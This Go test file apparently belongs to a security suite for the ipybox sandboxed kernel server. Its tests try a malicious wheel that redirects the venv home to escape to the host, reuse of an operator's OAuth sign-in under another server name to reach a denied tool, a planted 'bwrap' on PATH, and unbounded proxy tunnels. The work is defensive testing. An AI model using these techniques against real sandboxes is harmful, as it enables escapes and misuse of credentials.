func TestAcc3WheelRewritesVenvHome(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	mark := filepath.Join(t.TempDir(), "host-mark")
	srv := newGatedServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox()})
	first := connect(t, srv, nil)
	script := fmt.Sprintf("#!/bin/sh\nif [ -d %q ]; then echo \"kernel file ran on the host as uid $(id -u), pid $$\" >> %q; fi\nexit 1\n", filepath.Dir(mark), mark)
	rd := strings.TrimSpace(run(t, first, fmt.Sprintf(`import os
rd = [l.split()[4] for l in open('/proc/self/mountinfo') if l.split()[4].endswith('/kernel') and 'ipybox' in l.split()[4]][0]
open(os.path.join(rd, 'python3'), 'w').write(%q)
os.chmod(os.path.join(rd, 'python3'), 0o755)
print(rd)`, script)))
	cfg, err := os.ReadFile(filepath.Join(ws, ".ipybox", "venv", "pyvenv.cfg"))
	if err != nil {
		t.Fatalf("no venv: %v", err)
	}
	var kept []string
	for _, l := range strings.Split(string(cfg), "\n") {
		if !strings.HasPrefix(l, "home") {
			kept = append(kept, l)
		}
	}
	evil := "home = " + rd + "\n" + strings.Join(kept, "\n")
	whl := wheelBytes(t, "venvhome", map[string]string{"venvhome-0.1.data/data/pyvenv.cfg": evil, "venvhome.py": ""})
	name := "venvhome-0.1-py3-none-any.whl"
	run(t, first, fmt.Sprintf("import base64\nopen(%q, 'wb').write(base64.b64decode(%q))", name, base64.StdEncoding.EncodeToString(whl)))
	res := call(t, first, "install_package", map[string]any{"package_name": "./" + name})
	t.Logf("install: IsError=%v %s", res.IsError, short(text(res)))
	now, _ := os.ReadFile(filepath.Join(ws, ".ipybox", "venv", "pyvenv.cfg"))
	t.Logf("pyvenv.cfg after the install:\n%s", now)
	second := connect(t, srv, nil)
	t.Logf("second kernel: %s", short(text(call(t, second, "execute_ipython_cell", map[string]any{"code": "print(1)"}))))
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("BROKE: install_package of a wheel re-pointed the venv's home, and the next kernel start ran a kernel-written file on the host: %q", b)
	}
}

// TestAcc3SignInUnderAnotherName: the operator's --mcp-config names an
// OAuth-protected remote server "gh", signed in once, and the policy
// denies one of its tools. Sign-ins are stored by URL, rules match server
// names: the client registers the same URL as "gh2", gets the operator's
// stored sign-in without being asked, and calls the denied tool through
// it. (The test server is on loopback, hence AllowPrivateURLs.)
func TestAcc3SignInUnderAnotherName(t *testing.T) {
	testenv.NeedsPython(t)
	t.Setenv("XDG_CONFIG_HOME", t.TempDir()) // the token file
	s := mcptest.NewOAuthServer(nil)
	t.Cleanup(s.Close)
	// The operator signs in, as `ipybox auth login gh` does.
	reg := mcpconn.NewRegistry()
	if err := reg.Add("gh", mcpconn.Config{URL: s.URL}); err != nil {
		t.Fatal(err)
	}
	// As `ipybox auth login --workspace ws gh` does: a sign-in is bound
	// to the workspace it was made for.
	ws := t.TempDir()
	m, err := mcpconn.New(reg, &mcpconn.Options{Workspace: ws, OAuthURL: func(ctx context.Context, server, u string) error {
		go testenv.Browse(u, 0, 10*time.Second)
		return nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Login(t.Context(), "gh"); err != nil {
		t.Fatalf("the operator's sign-in: %v", err)
	}
	m.Close()
	dir := t.TempDir()
	pol := filepath.Join(dir, "approvals.policy")
	os.WriteFile(pol, []byte("deny tool gh.tool-1\n"), 0o600)
	p, err := ipybox.LoadApprovalPolicy(pol, &ipybox.ApprovalPolicyOptions{Log: filepath.Join(dir, "log.jsonl")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	// The test's OAuth server is on loopback, which client-registered URL
	// servers reach only with AllowPrivateURLs; a real one (a public
	// host) needs no flag.
	srv := newGatedServer(t, &Options{Workspace: ws, Approvals: ApprovalOptions{Policy: p}, AllowPrivateURLs: true,
		Servers: map[string]ipybox.ServerConfig{"gh": {URL: s.URL}}})
	url := serveHTTP(t, srv)
	cs := connectHTTPAs(t, url, testToken, legacyVersion, &mcp.ClientOptions{
		Capabilities: &mcp.ClientCapabilities{Elicitation: &mcp.ElicitationCapabilities{URL: &mcp.URLElicitationCapabilities{}}},
		ElicitationHandler: func(ctx context.Context, r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			testenv.Browse(r.Params.URL, 0, 10*time.Second)
			return &mcp.ElicitResult{Action: "accept"}, nil
		},
	})
	denied := run(t, cs, "try:\n    from mcptools.gh.tool_1 import Params, run\n    print(run(Params(s='x')))\nexcept Exception as e:\n    print(type(e).__name__, e)")
	if !strings.Contains(denied, "deny tool gh.tool-1") {
		t.Fatalf("the operator's rule does not deny gh.tool_1, so the test proves nothing: %q", denied)
	}
	before := s.Counts().Authorizations
	res := call(t, cs, "register_mcp_server", map[string]any{"server_name": "gh2", "server_params": map[string]any{"url": s.URL}})
	if res.IsError {
		t.Logf("held: %s", short(text(res)))
		return
	}
	got := run(t, cs, "try:\n    from mcptools.gh2.tool_1 import Params, run\n    print(run(Params(s='x')))\nexcept Exception as e:\n    print(type(e).__name__, e)")
	t.Logf("through gh2: %q (sign-ins before %d, after %d)", got, before, s.Counts().Authorizations)
	if got == "tool-1: x" && s.Counts().Authorizations == before {
		t.Errorf("BROKE: the client re-registered the operator's signed-in server under another name and called the tool the policy denies, with the operator's sign-in, unasked: %q", got)
	}
}

// TestAcc3BwrapFromWorkspacePath: the operator runs ipybox mcp with the
// project's virtualenv activated, so PATH starts with <ws>/.venv/bin (the
// kernel sees it: its PATH is built from the host's). The sandbox finds
// bwrap with exec.LookPath on ipybox's own PATH, unfiltered. Kernel code
// writes <ws>/.venv/bin/bwrap, a wrapper that logs and runs the real one.
// Within the run, the path found first is kept; the attack is whether a
// kernel start of the same run, or of the next run (ipybox restarted in
// the same shell), runs the kernel's bwrap on the host.
func TestAcc3BwrapFromWorkspacePath(t *testing.T) {
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	real, _ := exec.LookPath("bwrap")
	ws := t.TempDir()
	bin := filepath.Join(ws, ".venv", "bin")
	os.MkdirAll(bin, 0o755)
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	// As root, the sandbox runs bwrap as an unprivileged mapped uid, which
	// cannot write a root-only temporary folder: the mark goes to /tmp.
	mark := filepath.Join(os.TempDir(), "acc3-bwrap-mark-"+filepath.Base(ws))
	t.Cleanup(func() { os.Remove(mark) })
	first, err := New(&Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox(), HTTP: HTTPOptions{AuthToken: testToken}, Sessions: SessionOptions{StartTimeout: 90 * time.Second}})
	if err != nil {
		t.Fatal(err)
	}
	cs := connect(t, first, nil)
	script := fmt.Sprintf("#!/bin/sh\nif [ -d %q ]; then echo \"kernel's bwrap ran on the host as uid $(id -u)\" >> %q; fi\nexec %s \"$@\"\n", filepath.Dir(mark), mark, real)
	got := run(t, cs, fmt.Sprintf(`import os
print([p for p in os.environ['PATH'].split(':') if p.startswith(os.getcwd())])
p = '.venv/bin/bwrap'
open(p, 'w').write(%q)
os.chmod(p, 0o755)
print('planted')`, script))
	t.Logf("first run's kernel: %s", got)
	again := connect(t, first, nil)
	t.Logf("first run, next kernel: %s", short(text(call(t, again, "execute_ipython_cell", map[string]any{"code": "print(1)"}))))
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("BROKE: within the run, the host ran a bwrap that kernel code wrote in a workspace folder on ipybox's PATH: %q", b)
	}
	cs.Close()
	again.Close()
	first.Close()
	next := newGatedServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox()})
	res := call(t, connect(t, next, nil), "execute_ipython_cell", map[string]any{"code": "print(1)"})
	t.Logf("next run's kernel: %s", short(text(res)))
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("BROKE: the next run of ipybox mcp (same PATH) ran a bwrap that kernel code wrote in a workspace folder on its PATH: %q", b)
	}
}

// TestAcc3EgressTunnelsUnbounded: the egress proxy's CONNECT tunnels have
// no overall limit ("they end when either side closes"), and each holds
// goroutines, buffers and two descriptors in the host ipybox process,
// which every principal shares. alice's kernel opens n tunnels to an
// allowed address and holds them; the host's goroutines grow with n,
// and nothing refuses the tunnels past a share.
func TestAcc3EgressTunnelsUnbounded(t *testing.T) {
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	var held []net.Conn
	var mu sync.Mutex
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			held = append(held, c)
			mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		mu.Lock()
		for _, c := range held {
			c.Close()
		}
		mu.Unlock()
	})
	policy := ipybox.DefaultSandbox()
	policy.Network.AllowedDomains = []string{ln.Addr().String()}
	srv := newGatedServer(t, &Options{Workspace: t.TempDir(), HTTP: HTTPOptions{Principals: twoPrincipals}, Sandbox: policy})
	url := serveHTTP(t, srv)
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	ha := createSession(t, alice)
	runIn(t, alice, ha, "print(1)")
	before := runtime.NumGoroutine()
	const n = 1500
	got := runIn(t, alice, ha, fmt.Sprintf(`import socket, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
socks, refused = [], 0
for i in range(%d):
    s = socket.create_connection(('127.0.0.1', 3128))
    s.sendall(b'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n')
    r = s.recv(64)
    if b' 200' in r: socks.append(s)
    else: refused += 1; s.close()
print(len(socks), 'open', refused, 'refused')`, n, ln.Addr().String(), ln.Addr().String()))
	after := runtime.NumGoroutine()
	mu.Lock()
	upstream := len(held)
	mu.Unlock()
	t.Logf("alice's kernel: %s; host goroutines %d -> %d; upstream connections %d", got, before, after, upstream)
	if strings.HasPrefix(got, fmt.Sprint(n)+" open") && after-before >= n {
		t.Errorf("BROKE (no bound): one principal's kernel holds %d egress tunnels, %d more goroutines in the shared host process; nothing caps a kernel's or a principal's share", n, after-before)
	}
}
